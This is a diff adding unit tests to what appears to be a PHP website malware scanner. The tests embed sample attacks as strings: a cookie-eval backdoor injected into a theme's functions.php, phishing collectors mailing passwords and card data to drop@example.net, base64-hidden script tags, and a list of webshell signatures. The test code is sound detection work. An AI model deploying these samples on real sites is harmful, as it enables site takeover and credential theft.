@@ -205,6 +205,21 @@ fn each_fixture_is_reported_for_its_family() {
             include_str!("../../../tests/fixtures/sweep/malicious/own_file_name_function.php"),
             Why::HiddenFunctionName,
         ),
+        (
+            "collector_from_session_fields.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/collector_from_session_fields.php"),
+            Why::CredentialCollector,
+        ),
+        (
+            "injector_pastes_cookie_eval.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/injector_pastes_cookie_eval.php"),
+            Why::WritesCodeWithInput,
+        ),
+        (
+            "encoded_script_tag_printed.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/encoded_script_tag_printed.php"),
+            Why::InjectedScript,
+        ),
     ];
     for (name, text, why) in cases {
         let hits = crate::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
@@ -325,6 +340,32 @@ fn droppers_are_found() {
 }
 
 #[test]
+fn statements_pasted_into_the_sites_files_are_droppers() {
+    // An injector: lines of code without an open tag, added to a theme's functions file; the
+    // open tag it names is one it looks for in the files it changes.
+    let snippet = "global $seen;\nif (!empty($_COOKIE['k']) && empty($seen)) {\n    $seen = true;\n    \
+                   $c = $_COOKIE['k'];\n    if (substr($c, 0, 5) === '<?php') { $c = substr($c, 5); }\n    \
+                   $v = eval($c);\n    echo $v;\n}\n// kept in the theme, run on every page it shows.\n";
+    let injector = format!(
+        "<?php $code = <<<'EOD'\n{snippet}EOD;\n$f = get_template_directory() . '/functions.php';\n\
+         file_put_contents($f, file_get_contents($f) . \"\\n\" . $code);"
+    );
+    assert_eq!(found(&injector), [Why::WritesCodeWithInput]);
+}
+
+#[test]
+fn statements_and_patterns_that_run_nothing_from_the_request_are_not_droppers() {
+    // A settings file written from a template of statements: no request input run.
+    let config = "<?php $tpl = \"<?php\\n\\$db_host = 'localhost';\\n\\$db_user = 'shop';\\n\\$db_name = 'shop';\\n\\$db_prefix = 'sh_';\\n\\$debug = false;\\n\\$cache = true;\\n\\$secret = 'x';\\n\\$timeout = 30;\\n\\$lang = 'en';\\n\"; \
+                  file_put_contents('config.php', $tpl);";
+    assert!(found(config).is_empty());
+    // A scanner's signatures: patterns of one line each, not statements.
+    let patterns = "<?php $sigs = ['eval\\(\\$_POST\\[', 'assert\\(\\$_REQUEST', 'system\\(\\$_GET\\[']; \
+                    file_put_contents('scan.log', implode(\"\\n\", $sigs));";
+    assert!(found(patterns).is_empty());
+}
+
+#[test]
 fn downloads_piped_into_text_tools_are_quiet() {
     let grep = "<?php exec('curl -s https://status.example.org/v | grep version', $out);";
     assert!(found(grep).is_empty());
@@ -375,6 +416,20 @@ fn injected_scripts_are_found() {
 }
 
 #[test]
+fn script_tags_kept_in_base64_are_found() {
+    // `<script src=…>` and `<iframe …>` in base64, printed or kept in a table of texts.
+    let printed =
+        "<?php if (!is_admin()) { echo base64_decode('PHNjcmlwdCBzcmM9Ii8vYS5leGFtcGxlL3guanMiPjwvc2NyaXB0Pg=='); }";
+    assert_eq!(whys(printed), [(Why::InjectedScript, Danger::High)]);
+    let table = "<?php $t = array('cDE=', 'PGlmcmFtZSBzcmM9Ii8vYS5leGFtcGxlLyI+'); echo base64_decode($t[1]);";
+    assert_eq!(found(table), [Why::InjectedScript]);
+    // Base64 of other markup or of pictures is what sites keep (icons, a `<div>`, an SVG).
+    let other = "<?php echo base64_decode('PGRpdiBjbGFzcz0ibm90aWNlIj5TYXZlZDwvZGl2Pg=='); \
+                 $svg = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=';";
+    assert!(found(other).is_empty());
+}
+
+#[test]
 fn mass_script_injectors_are_found() {
     let walker = "<?php foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root)) as $p) { \
                   if (substr($p, -4) == '.php') { $c = file_get_contents($p); \
@@ -422,6 +477,55 @@ fn credential_collectors_are_found() {
                 $m .= \"<b> Pass : </b><font color='#000'>\" . $p . \"</font>\"; mail($to, 'x', $m); \
                 header('Location: next.php');";
     assert_eq!(found(html), [Why::CredentialCollector]);
+}
+
+#[test]
+fn collectors_that_carry_fields_across_pages_or_align_labels_are_found() {
+    // The fields a kit's earlier page kept in the session, interpolated in braces.
+    let session = "<?php session_start(); $m = \"User : {$_SESSION['user']}\\n\"; \
+                   $m .= \"Pass : {$_SESSION['pass']}\\n\"; mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(session), [Why::CredentialCollector]);
+    // The request's fields in braces too.
+    let braces = "<?php $m = \"Login : {$_POST['login']}\\nPassword : {$_POST['password']}\\n\"; \
+                  mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(braces), [Why::CredentialCollector]);
+    // Fields kept under names that say nothing: the labels, aligned with tabs, say what they
+    // hold.
+    let coded = "<?php $a = $_POST['f1']; $b = $_POST['f2']; $m = \"Card Number\\t: $a\\nCVV\\t\\t: $b\\n\"; \
+                 mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(coded), [Why::CredentialCollector]);
+    // Labels padded into a column, and in brackets.
+    let padded = "<?php $u = $_POST['user']; $p = $_POST['pass']; \
+                  $m = \"UserID                         : $u\\nPassword                       : $p\\n\"; \
+                  mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(padded), [Why::CredentialCollector]);
+    let brackets = "<?php $m = \"[Card Number] = \" . $_SESSION['n1'] . \"<br>[Expiry] = \" . $_SESSION['n2']; \
+                    mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(brackets), [Why::CredentialCollector]);
+    // A whole message in one literal, labelled in the victims' language.
+    let fields: String = (1..=20).map(|k| format!("<b>Campo {k}:</b> $c{k}<br />\\n")).collect();
+    let long = format!(
+        "<?php $u = $_POST['usr']; $s = $_POST['pwd']; {} \
+         $m = \"{fields}<b>Usuario:</b> $u<br />\\n<b>Senha:</b> $s<br />\\n\"; mail($to, 'x', $m);",
+        (1..=20).map(|k| format!("$c{k} = $_POST['c{k}'];")).collect::<String>()
+    );
+    assert_eq!(found(&long), [Why::CredentialCollector]);
+}
+
+#[test]
+fn forms_whose_labels_name_no_secret_are_not_collectors() {
+    // A contact form's fields under names that say nothing, labelled with no secret.
+    let contact = "<?php $a = $_POST['f1']; $b = $_POST['f2']; $m = \"Name\\t: $a\\nUser\\t: $b\\n\"; \
+                   mail('shop@example.net', 'Contact', $m);";
+    assert!(found(contact).is_empty());
+    // A shop's order mail from the session: the customer and the items, no card.
+    let order = "<?php $m = \"Email : {$_SESSION['email']}\\nItems : {$_SESSION['cart_count']}\\n\"; \
+                 mail('shop@example.net', 'Order', $m);";
+    assert!(found(order).is_empty());
+    // A welcome mail to the visitor who registered, with the password they chose.
+    let welcome = "<?php $p = $_POST['f2']; $m = \"User : {$_SESSION['user']}\\nPassword : $p\\n\"; \
+                   mail($_POST['email'], 'Welcome', $m);";
+    assert!(found(welcome).is_empty());
 }
 
 #[test]
